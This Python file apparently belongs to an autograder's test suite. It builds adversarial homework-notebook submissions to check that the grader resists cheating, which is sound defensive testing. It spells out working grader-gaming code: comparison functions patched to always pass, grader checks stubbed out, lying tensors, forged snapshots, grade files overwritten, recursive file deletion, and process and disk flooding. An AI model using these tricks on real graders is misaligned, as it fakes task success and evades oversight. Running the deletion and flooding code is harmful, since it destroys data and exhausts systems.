"""Adversarial submissions: a base notebook (blank template, solution, or one with a wrong value)
with one attack added. The suite grades each on both paths and compares it with its base."""

from __future__ import annotations

import json

import mutants
import nbformat

PATCH_COMPARISONS = """
import builtins, math, numpy, torch
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *x, **k: numpy.ones_like(numpy.asarray(a), dtype=bool)
numpy.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
"""

PATCH_OTTER = """
import otter.test_files.exception_test as et
et.test_case.call_func = lambda self, env: None
et.ExceptionTestFile.run = lambda self, env: setattr(self, "test_case_results", [])
import autograder.engine.in_kernel
autograder.engine.in_kernel.run_check = lambda *a, **k: None
class Grader:
    def __getattr__(self, name):
        return lambda *a, **k: None
grader = Grader()
"""

LYING_TENSORS = """
import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return True
    def __sub__(self, other): return torch.zeros(())
    def __abs__(self): return torch.zeros(())
    def __float__(self): return 110.0313
    def item(self): return 110.0313
    def tolist(self): return [-17.3043, 14.8581]
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("tolist", "item"):
            return 110.0313
        return super().__torch_function__(func, types, args, kwargs or {})
What1 = torch.tensor([0.0, 0.0], requires_grad=True).as_subclass(Liar)
yhat1 = torch.zeros(100).as_subclass(Liar)
loss1 = torch.tensor(0.0).as_subclass(Liar)
"""

SETTRACE = """
import sys
def tracer(frame, event, arg):
    if frame.f_code.co_name in ("capture", "capture_value", "_tensor"):
        frame.f_globals["MAX_ELEMENTS"] = -1
    return tracer
sys.settrace(tracer)
"""

FILES = """
import glob, os
for pattern in ["../results/results.json", "results.json", "../../results/*.json", "grades.csv", "../grades.csv",
                "{out}/grades.csv", "{out}/results/*.json", "tests/*.py", "../source/tests/*.py",
                "solutions/reference.py", "../source/files/solutions/reference.py", "autograder/*.py"]:
    for path in glob.glob(pattern) or [pattern]:
        try:
            with open(path, "w") as f:
                f.write('{"score": 1000, "tests": []}' if path.endswith(".json") else "score,1000\\n")
        except OSError:
            pass
for path in glob.glob("../**/*", recursive=True)[:200]:
    try:
        os.remove(path)
    except OSError:
        pass
"""

FLOOD = """
import os, subprocess, sys
for i in range(1500):
    print("x" * 1_000_000)
for i in range(3000):
    with open(f"junk{i}.txt", "w") as f:
        f.write("junk")
children = [subprocess.Popen(["sleep", "600"]) for _ in range(10)]
for _ in range(10):
    if os.fork() == 0:
        import time
        time.sleep(600)
        os._exit(0)
"""


# the seed spelled so that the reseeder cannot replace it: the data no longer change with the seed
PIN_SEED = """
import torch
_seed = torch.manual_seed
torch.manual_seed = lambda seed: _seed(int("2021507" + "54"))
"""


def forge_snapshots() -> str:
    """Replace the executor's capture with the solution's values, typed in."""
    from autograder.run.execute import run_cells
    from autograder.spec.questions import QUESTIONS

    solved = mutants.mutant("solution")
    snaps = run_cells([c.source for c in solved.cells if c.cell_type == "code"])
    by_names = {"|".join(QUESTIONS[q].names): s for q, s in snaps.items()}
    return (
        "import json\nimport autograder.run.execute as ex\n"
        f"FORGED = json.loads({json.dumps(json.dumps(by_names))})\n"
        "ex.capture = lambda env, names: FORGED['|'.join(names)]\n"
    )


# name -> (base, code, insert after the cell containing)
ATTACKS = {
    "patch_comparisons": ("off_by_one", PATCH_COMPARISONS, "import numpy as np"),
    "patch_otter": ("blank", PATCH_OTTER, "import numpy as np"),
    "lying_tensors": ("blank", LYING_TENSORS, "loss1 = ..."),
    "system_exit": ("solution", "raise SystemExit(0)", "import numpy as np"),
    "keyboard_interrupt": ("solution", "raise KeyboardInterrupt", "import numpy as np"),
    "os_exit": ("solution", "import os\nos._exit(0)", 'grader.check("method3")'),
    "settrace": ("blank", SETTRACE, "import numpy as np"),
    "forged_snapshots": ("blank", None, "import numpy as np"),
    "files": ("blank", FILES, "import numpy as np"),
    "flood": ("solution", FLOOD, "import numpy as np"),
    "hard_coded": ("hard_coded", "", None),
    "pin_seed_and_hard_code": ("hard_coded", PIN_SEED, "otter.Notebook("),
}


def base(name: str) -> nbformat.NotebookNode:
    if name == "blank":
        return nbformat.read(mutants.ROOT / "assignment" / "hw04.ipynb", as_version=4)
    if name == "hard_coded":
        return mutants.hard_coded()
    return mutants.mutant(name)


def attack(name: str, out: str = "/nonexistent") -> nbformat.NotebookNode:
    base_name, code, after = ATTACKS[name]
    nb = base(base_name)
    if code == "":
        return nb
    code = forge_snapshots() if code is None else code.replace("{out}", out)
    at = next(i for i, c in enumerate(nb.cells) if after in c.source) + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell(code))
    return nb
